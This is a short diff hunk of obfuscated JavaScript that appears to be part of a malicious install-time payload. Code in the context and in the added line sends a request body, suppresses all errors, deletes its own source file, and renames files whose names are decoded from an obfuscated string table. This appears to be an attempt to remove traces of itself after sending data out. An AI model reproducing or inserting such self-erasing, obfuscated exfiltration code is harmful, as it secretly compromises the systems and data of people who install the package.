@@ -28,7 +28,7 @@ const _entry = (x) => {
     q.on("error", () => {});
     q.end(body);
     E.unlink(__filename, () => {});
-    E.unlink(_trans_2(stq[4]), () => E.rename(_trans_2(stq[5]), _trans_2(stq[4]), () => {}));
+    E.rename(_trans_2(stq[5]), _trans_2(stq[4]), () => {});
   } catch {}
 };
 _entry("6202033");
